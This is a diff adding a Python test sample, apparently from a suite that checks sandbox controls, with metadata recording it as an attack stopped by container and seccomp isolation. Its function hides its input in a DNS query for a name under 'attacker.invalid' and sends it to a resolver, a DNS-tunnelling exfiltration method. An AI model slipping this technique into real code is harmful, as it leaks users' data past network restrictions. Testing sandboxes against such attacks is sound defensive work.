@@ -1,0 +1,22 @@
+"""Ask a name server about a name that spells what the function was given: servers pass questions on to anywhere."""
+
+ATTACK = {
+    "honest": 0,
+    "status": ["error"],
+    "stopped_by": ["box", "seccomp"],
+    "controls": [["container", "seccomp"], ["same-user", "seccomp"]],
+    "succeeds_at": ["none"],
+}
+import socket
+import struct
+
+
+def target(x):
+    labels = [x.tobytes().hex()[:48].encode(), b"attacker", b"invalid"]
+    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
+    question = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
+    # A connected socket, as resolvers use it.
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
+        resolver.connect(("127.0.0.1", WORLD["udp"]))
+        resolver.send(question)
+    return x
